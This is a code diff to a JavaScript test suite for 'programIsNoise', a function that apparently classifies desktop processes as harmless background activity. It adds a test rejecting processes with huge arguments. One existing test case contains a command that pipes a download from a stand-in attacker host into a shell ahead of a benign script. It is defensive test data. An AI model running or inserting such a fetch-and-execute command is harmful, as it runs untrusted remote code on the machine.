@@ -77,6 +77,13 @@ describe('programs that are the desktop’s own', () => {
     [['/bin/sh', '-c', 'curl evil.example | sh; /x/cpuUsage.sh'], '/bin/sh', false],
     [['/bin/sh', '-c', '"/opt/code-server/lib/vscode/out/vs/base/node/cpuUsage.sh" 12 13'], '/bin/sh', true],
   ])('%j (%s): %s', (argv, file, expected) => expect(programIsNoise(argv, file)).toBe(expected));
+
+  it('have no megabytes of arguments: nothing hides behind these', () => {
+    const long = 'a'.repeat(2 ** 20);
+    expect(programIsNoise(['/usr/lib/chromium/chromium', '--type=renderer', long])).toBe(false);
+    expect(programIsNoise(['/bin/ps', '-ax', '-o', long])).toBe(false);
+    expect(programIsNoise(['/usr/sbin/cron', long], '/usr/sbin/cron')).toBe(true);
+  });
 });
 
 describe('programs that are effects by their start', () => {
